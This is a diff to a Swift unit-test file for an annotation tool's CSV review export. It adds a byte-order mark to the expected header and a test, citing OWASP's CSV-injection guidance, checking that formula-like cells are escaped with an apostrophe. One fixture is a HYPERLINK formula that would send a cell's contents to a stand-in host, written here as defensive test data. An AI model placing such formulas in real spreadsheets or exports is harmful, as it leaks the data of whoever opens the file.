@@ -202,8 +202,22 @@ import Testing
   @Test func `the table has a column for each field and teacher`() throws {
     try ReviewFile.write(conflicts, to: scratch.path("r.csv"))
     let lines = try scratch.text("r.csv").components(separatedBy: "\r\n")
-    #expect(lines[0] == "item,label,image,field: text,t0: label,t0: rationale,t1: label,t1: rationale")
+    #expect(lines[0] == "\u{FEFF}item,label,image,field: text,t0: label,t0: rationale,t1: label,t1: rationale")
     #expect(lines[1] == #"a,,a.jpg,"Caption, ""a""",falsified,because 0,pristine,because 1"#)
+  }
+
+  /// OWASP, "CSV Injection": a cell that begins with one of = + - @, a tab or a carriage return is a formula to a spreadsheet.
+  @Test func `a table shows what others wrote and computes nothing`() async throws {
+    let formula = #"=HYPERLINK("http://example.invalid/?"&A2)"#
+    let item = Item(id: "=1+1", fields: ["text": formula, "degrees": "-5", "user": "@somebody"])
+    let replies = [annotation("k", item: "=1+1", rationale: "+1 for this")]
+    let file = scratch.path("r.csv")
+    try ReviewFile.write([Conflict(item: item, annotations: replies)], answers: ["=1+1": "No"], to: file)
+    let line = try scratch.text("r.csv").components(separatedBy: "\r\n")[1]
+    #expect(line == #"'=1+1,No,,-5,"'=HYPERLINK(""http://example.invalid/?""&A2)",'@somebody,falsified,'+1 for this"#)
+    #expect(try ReviewFileSource(file, labels: .outOfContext, items: ["=1+1"], strict: true).labels == ["=1+1": "pristine"])
+    // An item that is called so is not another one's cell.
+    #expect(try ReviewFileSource(file, labels: .outOfContext, items: ["'=1+1"], strict: true).labels == ["'=1+1": "pristine"])
   }
 
   @Test func `several images are written by slot and read back`() throws {
